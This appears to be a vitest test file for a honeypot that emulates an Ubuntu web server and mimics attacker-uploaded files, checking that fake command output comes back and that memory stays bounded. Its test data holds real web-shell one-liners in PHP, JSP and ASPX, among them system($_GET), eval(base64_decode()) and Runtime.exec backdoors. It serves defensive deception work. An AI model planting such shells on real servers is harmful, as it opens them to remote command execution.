import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createPersona } from '../../personas/index.ts';
import { NormalRequest } from '../../signatures/normal-request.ts';
import type { Visit } from './lure.ts';
import { memoryOf } from './memory.ts';
import { callsFile, fileAnswer, keepFile, pageWithin, runOnce } from './uploaded-file.ts';

const persona = createPersona('ubuntu-web', 'a seed', { now: 0 });
let visitors = 0;

function visitOf(
  memory: Map<string, string>,
  path: string,
  headers: Readonly<Record<string, string>> = {},
  body = '',
): Visit {
  const request = new NormalRequest({
    method: body === '' ? 'GET' : 'POST',
    path,
    headers: Object.entries(headers),
    body,
  });
  return {
    request,
    persona,
    source: '203.0.113.9',
    matched: new Set(),
    command: '',
    memory,
    now: () => 0,
    run: (command) => `<${command}>`,
    file: () => null,
    token: () => '0',
  };
}

const memory = (): Map<string, string> => {
  visitors += 1;
  return memoryOf(persona, `2001:db8::${visitors.toString(16)}`);
};

function called(
  path: string,
  source: string,
  query: string,
  headers: Readonly<Record<string, string>> = {},
  body = '',
): string {
  const kept = memory();
  keepFile(visitOf(kept, '/'), path, source);
  return fileAnswer(visitOf(kept, `${path}${query}`, headers, body))?.body ?? 'nothing';
}

describe('a file that a visitor brought', () => {
  it.each([
    ['/a.php', '<?php system($_GET["x1"]); ?>', '?x1=id', '<id>'],
    ['/a.php', "<?php echo shell_exec($_REQUEST['c']);", '?c=whoami', '<whoami>'],
    ['/a.php', '<?php if(md5($_GET["pass"])=="a"){ system($_GET["zz"]); } ?>', '?pass=k&zz=id', '<id>'],
    [
      '/a.php',
      "<?php eval(base64_decode($_GET['e'])); ?>",
      `?e=${encodeURIComponent(Buffer.from("echo 'a'.'b'; system('id');").toString('base64'))}`,
      '<id>',
    ],
    ['/a.php', "<?php echo md5('1'); ?>", '', 'c4ca4238a0b923820dcc509a6f75849b'],
    ['/a.php', "<?php system('uname -a'); ?>", '', '<uname -a>'],
    [
      '/a.jsp',
      '<% if("023".equals(request.getParameter("pwd"))){ java.io.InputStream in = Runtime.getRuntime().exec(request.getParameter("i")).getInputStream(); } %>',
      '?pwd=023&i=id',
      '<id>',
    ],
    ['/a.jsp', '<% out.println("4711"); %>', '', '4711'],
    ['/a.jsp', '<%= 41*2 %>', '', '82'],
    [
      '/a.aspx',
      '<%@ Page Language="C#" %><% var p = new Process(); p.StartInfo.Arguments = "/c " + Request.Form["q1"]; %>',
      '?q1=dir',
      '<dir>',
    ],
    ['/a.txt', 'a proof <% no code %>', '', 'a proof <% no code %>'],
  ])('%s is what its source makes of it: %s', (path, source, query, output) => {
    expect(called(path, source, query)).toContain(output);
  });

  it('takes its command from a header, a cookie or a form where it reads it there', () => {
    expect(
      called('/a.jsp', '<% Runtime.getRuntime().exec(request.getHeader("X-Run")); %>', '', { 'X-Run': 'id' }),
    ).toContain('<id>');
    expect(called('/a.php', '<?php system($_COOKIE["k"]); ?>', '', { Cookie: 'a=b; k=id' })).toContain(
      '<id>',
    );
    expect(called('/a.php', '<?php system($_POST["z"]); ?>', '', {}, 'z=id')).toContain('<id>');
  });

  it('is what a command wrote below the document root', () => {
    const kept = memory();
    runOnce(visitOf(kept, '/'), 'echo hello > /var/www/html/up/h.txt');
    expect(fileAnswer(visitOf(kept, '/up/h.txt'))?.body).toBe('<echo hello >');
    expect(callsFile(visitOf(kept, '/up/other.txt'))).toBe(false);
  });

  it('is found in what surrounds it, and where there is none the search is short', () => {
    expect(pageWithin('a <% b %> c <% d %> e')).toBe('<% b %> c <% d %>');
    expect(pageWithin('%> <% b')).toBeUndefined();
    expect(pageWithin('<%>')).toBeUndefined();
    expect(pageWithin(`<%${'a'.repeat(20_000)}%>`)).toBeUndefined();
    // A search from each beginning would take minutes.
    expect(pageWithin('<%'.repeat(4_000_000))).toBeUndefined();
  });

  it('is bounded, and takes any source and any call', () => {
    const mark = fc.constantFrom(
      '<?php ',
      '<%',
      '%>',
      '$_GET["a"]',
      'request.getParameter("b")',
      'eval(',
      '";',
      '<%=',
      'out.print("',
    );
    const text = fc
      .array(fc.oneof(mark, fc.string({ unit: 'binary-ascii', maxLength: 40 })), { maxLength: 20 })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.constantFrom('/a.php', '/b.jsp', '/c.aspx', '/d'), text, text, (path, source, query) => {
        const kept = memory();
        for (let index = 0; index < 3; index += 1) keepFile(visitOf(kept, '/'), `${path}${index}`, source);
        keepFile(visitOf(kept, '/'), path, source);
        const answer = fileAnswer(visitOf(kept, `${path}?a=${encodeURIComponent(query)}&b=id`));
        expect(answer?.status).toBe(200);
        const sum = [...kept].reduce((count, [key, value]) => count + key.length + value.length, 0);
        expect(sum).toBeLessThanOrEqual(65_536);
      }),
      { numRuns: 200 },
    );
    const kept = memory();
    for (let index = 0; index < 100; index += 1)
      keepFile(visitOf(kept, '/'), `/p${index}.txt`, 'y'.repeat(60_000));
    expect(kept.size).toBeLessThanOrEqual(32);
    expect(fileAnswer(visitOf(kept, '/p99.txt'))?.body.length).toBe(4_096);
  });
});
